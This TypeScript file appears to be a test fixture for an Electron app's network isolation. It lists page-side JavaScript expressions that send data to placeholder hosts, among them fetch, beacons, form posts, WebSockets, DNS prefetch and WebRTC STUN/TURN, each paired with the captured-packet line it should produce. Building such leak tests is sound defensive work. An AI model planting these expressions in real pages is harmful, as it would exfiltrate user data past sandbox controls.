/** Ways for a page to send something out: what it evaluates, and what of it a captured network shows. */

export interface PageLeak {
  readonly expression: string;
  /** Stands in the line of a captured packet. Absent where this version of Electron sends nothing even when it is bare. */
  readonly sign?: string;
}

/** Each has an address or a name of its own, so that none is taken for another. */
function toAddress(number: number, expression: (address: string) => string): PageLeak {
  const address = `10.99.0.${number}`;
  return { expression: expression(address), sign: `> ${address}.` };
}

function toName(name: string, expression: (name: string) => string): PageLeak {
  const host = `${name}.example`;
  return { expression: expression(host), sign: `${host}.` };
}

function element(tag: string, properties: string): string {
  return `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}))`;
}

function peer(server: string): string {
  return `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: '${server}', username: 'u', credential: 'c' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  })().catch(() => undefined)`;
}

export const PAGE_LEAKS: Readonly<Record<string, PageLeak>> = {
  fetch: toAddress(1, (to) => `void fetch('http://${to}/', { mode: 'no-cors' }).catch(() => undefined)`),
  'fetch of a name': toName(
    'fetched',
    (to) => `void fetch('http://${to}/', { mode: 'no-cors' }).catch(() => undefined)`,
  ),
  image: toAddress(2, (to) => element('img', `{ src: 'http://${to}/x.png' }`)),
  script: toAddress(3, (to) => element('script', `{ src: 'http://${to}/x.js' }`)),
  'style sheet': toAddress(4, (to) => element('link', `{ rel: 'stylesheet', href: 'http://${to}/x.css' }`)),
  frame: toAddress(5, (to) => element('iframe', `{ src: 'http://${to}/' }`)),
  video: toAddress(6, (to) => element('video', `{ src: 'http://${to}/x.webm', autoplay: true, muted: true }`)),
  object: toAddress(7, (to) => element('object', `{ data: 'http://${to}/' }`)),
  font: toAddress(8, (to) => `void new FontFace('leak', "url('http://${to}/x.woff2')").load().catch(() => undefined)`),
  background: toAddress(9, (to) => `document.body.style.backgroundImage = "url('http://${to}/x.png')"`),
  socket: toAddress(10, (to) => `void new WebSocket('ws://${to}/')`),
  'event source': toAddress(11, (to) => `void new EventSource('http://${to}/')`),
  beacon: toAddress(12, (to) => `navigator.sendBeacon('http://${to}/', 'secret')`),
  form: toAddress(
    13,
    (to) => `{
    const frame = document.createElement('iframe'); frame.name = 'sink'; document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { action: 'http://${to}/', method: 'post', target: 'sink' });
    document.body.append(form); form.submit(); }`,
  ),
  'name hint': toName(
    'hinted',
    (to) =>
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//${to}' }))`,
  ),
  'connection hint': {
    expression:
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://preconnected.example' }))",
  },
  prefetch: toAddress(
    14,
    (to) =>
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://${to}/x' }))`,
  ),
  'peer over UDP': toAddress(15, (to) => peer(`stun:${to}:3478`)),
  'peer over UDP, by name': toName('stunned', (to) => peer(`stun:${to}:3478`)),
  'peer over TCP': toAddress(16, (to) => peer(`turn:${to}:3478?transport=tcp`)),
  'peer over TLS': toAddress(17, (to) => peer(`turns:${to}:5349?transport=tcp`)),
  window: toAddress(18, (to) => `void window.open('http://${to}/')`),
};
